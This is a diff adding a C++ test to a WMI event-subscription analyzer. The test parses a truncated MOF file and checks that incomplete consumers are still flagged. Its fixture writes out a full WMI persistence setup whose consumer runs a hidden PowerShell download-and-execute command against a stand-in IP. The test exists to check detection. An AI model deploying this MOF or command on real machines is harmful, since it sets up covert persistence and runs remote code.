@@ -2,6 +2,7 @@
 // directories, and the WMI-Activity 5861 PossibleCause parser.
 #include "wmisub/sources/mof.hpp"
 
+#include "wmisub/assess.hpp"
 #include "wmisub/graph.hpp"
 
 #include "shared_data.hpp"
@@ -9,6 +10,7 @@
 
 #include <doctest/doctest.h>
 
+#include <algorithm>
 #include <atomic>
 #include <chrono>
 #include <filesystem>
@@ -431,4 +433,49 @@ TEST_CASE("threads share one mof_collector, collecting at once") {
     for (std::thread& t : threads) t.join();
     for (std::size_t n : filters) CHECK(n == 8);
     CHECK(source.files().size() == 8);
+}
+
+TEST_CASE("a MOF cut at any byte keeps what was read, marks it incomplete, and a cut payload is still judged") {
+    const std::string whole =
+        "#pragma namespace(\"\\\\\\\\.\\\\root\\\\subscription\")\n"
+        "instance of __EventFilter as $F { Name = \"Upd\"; EventNamespace = \"root\\\\cimv2\"; QueryLanguage = \"WQL\";\n"
+        "  Query = \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
+        "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240\"; };\n"
+        "instance of CommandLineEventConsumer as $C { Name = \"Upd\";\n"
+        "  CommandLineTemplate = \"powershell.exe -nop -w hidden -c iex (New-Object Net.WebClient)."
+        "DownloadString('http://198.51.100.7/a.ps1')\"; };\n"
+        "instance of __FilterToConsumerBinding { Filter = $F; Consumer = $C; };\n";
+    const std::size_t command_at = whole.find("powershell.exe");
+    const std::size_t command_end = whole.find("\"; };\ninstance of __FilterToConsumerBinding");
+    REQUIRE(command_at != std::string::npos);
+    REQUIRE(command_end != std::string::npos);
+    const rule_catalog rules = rule_catalog::builtin();
+    std::size_t judged_cuts = 0;
+    for (std::size_t cut = 0; cut <= whole.size(); ++cut) {
+        CAPTURE(cut);
+        const mof_document doc = parse_mof(std::string_view(whole).substr(0, cut));
+        for (const mof_instance& mi : doc.instances) {
+            CHECK(mi.complete == !mi.object.origin.has(annotation_kind::incomplete));
+        }
+        if (cut <= command_at + 3 || cut >= command_end) continue;
+        // Cut inside the command line: the consumer is kept with the command as far as it goes.
+        const snapshot snap = to_snapshot(doc);
+        REQUIRE(snap.consumers.size() == 1);
+        const auto& cmd = std::get<command_line_consumer>(snap.consumers[0]);
+        REQUIRE(cmd.command_line_template);
+        CHECK(whole.compare(command_at, cmd.command_line_template->size(), *cmd.command_line_template) == 0);
+        CHECK(cmd.origin.has(annotation_kind::incomplete));
+        // No binding was read yet: the consumer is an orphan, judged on what it holds.
+        const subscription_graph graph(snap);
+        for (const assessment& a : assess(graph, rules)) {
+            if (a.facts.consumer == nullptr) continue;
+            const auto cut_finding = std::find_if(a.findings.begin(), a.findings.end(),
+                                                  [](const finding& f) { return f.id() == "WMISUB-STR-014"; });
+            REQUIRE(cut_finding != a.findings.end());
+            CHECK(cut_finding->severity == severity::medium);  // a command-line consumer: the payload may be what is missing
+            if (cut > whole.find("hidden")) CHECK(a.facts.payload->has(indicator_kind::hidden_window));
+            ++judged_cuts;
+        }
+    }
+    CHECK(judged_cuts == command_end - command_at - 4);
 }
